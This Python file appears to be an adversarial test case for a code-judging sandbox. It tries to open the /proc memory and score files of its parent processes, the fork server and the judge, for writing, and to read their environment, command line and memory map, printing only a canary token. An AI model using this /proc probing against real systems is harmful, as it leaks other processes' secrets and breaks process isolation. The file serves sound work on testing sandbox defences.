"""Opens what /proc has of the fork server and the judge: memory and out-of-memory score for writing, environment, command
line and memory map for reading; of what it reads it prints nothing but the canary.

Against: early_bound_handlers
Harm: reads the judge's environment
Merits: nothing
Answer: failed or crashed
"""

import contextlib
import os


def through(what):
    """Say what succeeded although it must not."""
    print("GOT" + " THROUGH: " + what, flush=True)


def parent_of(pid):
    """The parent of a process."""
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def victims():
    """The fork server and the judge, where this is one of its workers; nobody else."""
    if "katas-" not in os.getcwd():
        return []
    found = [os.getppid()]
    with contextlib.suppress(OSError):
        found.append(parent_of(found[0]))
    return [pid for pid in found if pid > 1]


def attack():
    """Open for writing without writing, and read."""
    for pid in victims():
        for name in ("mem", "oom_score_adj", "clear_refs", "comm", "timerslack_ns", "coredump_filter"):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDWR if name == "mem" else os.O_WRONLY))
                through(f"opened {name} of {pid} for writing")
        for name in ("environ", "cmdline", "maps"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                words = file.read().split(b"\0")
                print(*(word.decode() for word in words if word.startswith(b"KATAS_CANARY=")))
                through(f"read {name} of {pid}")


def make_handlers(rows, send):
    """Attack, and make no handler."""
    attack()
    raise RuntimeError("nothing was gained")
